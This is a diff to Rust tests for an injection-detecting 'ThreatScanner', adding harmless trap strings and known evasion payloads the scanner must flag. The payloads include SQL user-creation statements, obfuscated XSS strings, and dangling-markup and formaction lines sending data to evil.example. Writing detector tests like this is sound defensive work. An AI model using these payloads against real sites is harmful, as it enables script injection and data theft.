@@ -171,6 +171,12 @@ fn benign_traps_pass() {
         "price in $USD: 10",
         "Set x = \"\" and y = \"\"",
         "/* note */ a/*b*/ c",
+        "this[method](args)",
+        "level=alert",
+        "if (a == alert) x(a)",
+        "<title>My page</title>",
+        "He said \"hi\"> to me",
+        "<img src=\"https://example.com/a.png\"> and a \"quote",
     ];
     let s = ThreatScanner::default();
     for t in traps {
@@ -287,6 +293,20 @@ fn known_evasions_are_detected() {
         "user[$ne]=1",
         "{\"$gt\": \"\"}",
         "', $where: '1 == 1'",
+        "insert into mysql.user (user, host) values ('name', 'localhost')",
+        "create user name identified by 'pass123'",
+        // XSS from fuzzdb, HttpParamsDataset and PortSwigger's cheat sheet.
+        "<IMG%0aSRC%0a=%0a\"%0aj%0aa%0av%0aa%0as%0ac%0ar%0ai%0ap%0at%0a:%0aa%0al%0ae%0ar%0at%0a(1)\">",
+        "';a=prompt,a()//",
+        "$,_=1}}).$=alert</script>",
+        "</stYle/</titLe/</teXtarEa/</scRipt/--!>",
+        "</title><img src=x>",
+        "'';!--\"<XSS>=&{()}",
+        "mhtml:http://example.com/test.html!xss.html",
+        "';this['ale'+'rt'](1);//",
+        "';top[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]]((+{}+[])[+!![]]);//",
+        "<img src=\"//evil.example/?",
+        "<form><button formaction=//evil.example>go</button>",
     ];
     for e in evasions {
         assert!(
